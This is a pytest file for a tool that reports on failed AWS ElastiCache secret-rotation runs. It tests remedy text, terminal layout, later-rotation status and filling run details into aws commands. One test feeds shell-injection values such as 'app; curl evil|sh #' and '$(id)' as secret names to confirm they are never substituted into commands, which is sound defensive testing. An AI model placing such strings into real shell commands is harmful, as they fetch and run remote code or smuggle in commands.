"""What a run has left, what to do, and what has happened since.

The snapshots of test_command have this of each recorded run; here are the other cases.
"""

import json
from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import pytest
from botocore.exceptions import ClientError
from rich.console import Console

from report import source
from report.about import About
from report.remedy import Remedy, remedy_of
from report.run import Run
from report.terminal import show, show_failure
from tests.docs.test_troubleshooting import ENTRIES, causes_of, names_of
from tests.report.recorded import recorded

FAILED = recorded("both-passwords")
#: The errors of docs/troubleshooting.md, by name.
ERRORS = {
    name.replace("*", "TooManyRequestsException"): entry
    for heading, entry in ENTRIES.items()
    for name in names_of(heading)
}


def remedy_for(run: Run) -> Remedy:
    remedy = remedy_of(run)
    assert remedy
    return remedy


def closed(codes: Mapping[str, object], output: str | None = None) -> Run:
    """A recorded run whose Close Rotation had other codes, or another output."""
    run = recorded("both-passwords")
    [closing] = [visit for visit in run.top() if visit.name == "Close Rotation"]
    state = json.loads(closing.output)
    state["Closing"] |= codes
    closing.output = json.dumps(state) if output is None else output
    return run


# -- what a run has left

UNVERIFIED = "Clients: unknown (Close Rotation has not verified it)"


@pytest.mark.parametrize(
    "codes, field, expected",
    [
        ({"Promoted": True}, "current", "which this run set"),
        ({"Pending": "KEPT"}, "pending", "could not be removed"),
        ({"User": "FIRST_PASSWORD"}, "user", "has its first password"),
        # Codes of another release.
        ({"Pending": "LOST"}, "pending", "is unknown"),
        ({"Clients": "ALIVE"}, "clients", UNVERIFIED),
        ({"User": "GONE"}, "user", "is unknown"),
        # After Promote Version has failed.
        ({"Failed": "Promote", "Pending": "REMOVED"}, "current", "was not moved"),
        ({"Failed": "Promote", "Pending": "KEPT"}, "current", "may be "),
        ({"Failed": "Promote", "Promoted": None}, "current", "may be "),
    ],
)
def test_the_codes_of_close_rotation_count(
    codes: dict[str, object], field: str, expected: str
) -> None:
    run = closed(codes)
    if "Failed" in codes:
        run.visits.append(replace(run.top()[-1], name="Promote Version", outcome="caught"))
    assert expected in getattr(remedy_for(run), field)


@pytest.mark.parametrize("output", ["", "null", "[]", "no JSON", "{}", '{"Closing": {}}'])
def test_without_codes_it_is_unknown(output: str) -> None:
    remedy = remedy_for(closed({}, output))
    assert remedy.clients == UNVERIFIED
    assert remedy.pending.startswith("may be")


@pytest.mark.parametrize(
    "name, values, secret",
    [
        ("succeeded", 3, "the new password is in 3 values"),
        ("dry-run", 1, "the new password would be in 1 value"),
        ("both-passwords", 2, "the new password would be in 2 values"),
    ],
)
def test_what_a_run_does_to_the_secret_and_does_not_test_is_left(
    name: str, values: int, secret: str
) -> None:
    run = recorded(name)
    for visit in run.top():
        if visit.name in ("Check Target", "Find Endpoints", "Find Endpoints Again"):
            state = json.loads(visit.output)
            state["Target"]["ChangedValues"] = values
            state.setdefault("Network", {})["NotTested"] = ["far", "off"]
            visit.output = json.dumps(state)
    assert {("the secret", secret), ("not tested", "far, off")} <= {*remedy_for(run).left}


# -- what is on the first screen


@pytest.mark.parametrize("name", ERRORS)
def test_the_first_screen_of_a_terminal_has_the_cause_and_what_to_do(name: str) -> None:
    """Of each error, with the longest cause that docs/troubleshooting.md quotes."""
    cause = max(causes_of(ERRORS[name]), key=len)
    run = replace(recorded("locked-out"), error=name, cause=cause)
    if name in ("ABORTED", "TIMED_OUT"):
        run = replace(recorded("aborted"), status=name, error="")
    console = Console(width=80, highlight=False, markup=False, emoji=False)
    with console.capture() as captured:
        show(run, remedy_of(run), console)
    first = lines(captured.get())[:23]
    assert [line.partition(":")[0] for line in first[:2]] == ["Clients", "Since then"]
    assert first[2].startswith((f"FAILED {name}", name))
    assert any(line.startswith("What to do (") for line in first)
    assert any(line.startswith("aws ") for line in first)
    # Below it, `python -m local rotate` prints three lines, and the shell its prompt.
    with console.capture() as captured:
        show_failure(run, remedy_of(run), console)
    shown = lines(captured.get())
    assert len(shown) + 4 <= 24
    assert run.cause[:20] in "".join(shown)


def lines(printed: str) -> list[str]:
    """As an 80-column terminal breaks them."""
    return [
        line[at : at + 80] for line in printed.splitlines() for at in range(0, len(line) or 1, 80)
    ]


# -- what has happened since


class Secrets:
    def __init__(self, **described: Any) -> None:
        self.described = described

    def describe_secret(self, *, SecretId: str) -> dict[str, Any]:
        assert SecretId.startswith("arn:aws:secretsmanager:us-east-1:123456789012:secret:")
        if self.described:
            return self.described
        answer = {"Code": "AccessDeniedException", "Message": "No."}
        raise ClientError({"Error": answer}, "DescribeSecret")


ABOUT = About.of(FAILED)
FOUND, MADE = (ABOUT.target[key] for key in ("CurrentVersionId", "VersionId"))
LATER, EARLIER = FAILED.stopped + timedelta(hours=6), FAILED.started - timedelta(days=30)


def labeled(current: str, rotated: datetime | None = None) -> Secrets:
    versions = {"other": ["AWSPREVIOUS"], current: ["AWSCURRENT"]}
    return Secrets(VersionIdsToStages=versions, LastRotatedDate=rotated)


@pytest.mark.parametrize(
    "about, secrets, expected",
    [
        (ABOUT, labeled("x", LATER), "a rotation has succeeded, at 2026-11-26 02:48 UTC"),
        (ABOUT, labeled("x", EARLIER), "AWSCURRENT was moved, to x, by a run by hand or a person"),
        (ABOUT, labeled(FOUND, EARLIER), "no rotation has succeeded"),
        (ABOUT, labeled(MADE, EARLIER), f"AWSCURRENT is version {MADE}, which this run made"),
        (ABOUT, labeled(FOUND), "no rotation has succeeded"),
        (ABOUT, Secrets(DeletedDate=LATER), "the secret was marked for deletion"),
        # Without the permission:
        (ABOUT, Secrets(), "unknown (DescribeSecret: AccessDeniedException: No.)"),
        # The run has not seen the labels:
        (
            About("", ABOUT.secret, {}),
            labeled("x"),
            "no rotation by Secrets Manager has succeeded; a run by hand may have",
        ),
        (About("arn", "", {}), Secrets(), "unknown (the run names no secret)"),
    ],
)
def test_whether_a_later_rotation_succeeded_is_in_the_secret(
    about: About, secrets: Secrets, expected: str
) -> None:
    assert source.since(about, FAILED, secrets) == f"Since then: {expected}"


# -- which run it was


def test_a_run_is_identified_by_secret_user_and_place() -> None:
    assert ABOUT.line == (
        "secret production/sessions/app of user app, account 123456789012, us-east-1"
    )
    assert ABOUT.console.startswith("https://us-east-1.console.aws.amazon.com/states/")
    assert ABOUT.filled("--secret-id SECRET_NAME USER_ARN MACHINE_ARN STACK_NAME CACHE") == (
        "--secret-id production/sessions/app arn:aws:elasticache:us-east-1:123456789012:user:app "
        "arn:aws:states:us-east-1:123456789012:stateMachine:elasticache-rotation-rotation "
        "elasticache-rotation sessions"
    )


@pytest.mark.parametrize(
    "secret", ["", "app; curl evil|sh #", "$(id)", "a\x1b]0;b", "--output", "a b"]
)
def test_what_is_unknown_or_more_than_a_name_in_a_shell_is_not_filled_in(secret: str) -> None:
    command = "aws x --secret-id SECRET_NAME USER_ID"
    assert About("", secret, {}).filled(command) == command


def test_a_run_that_has_just_started_is_about_nothing() -> None:
    assert About.of(Run(visits=FAILED.visits[:1])) == About("", "", {})
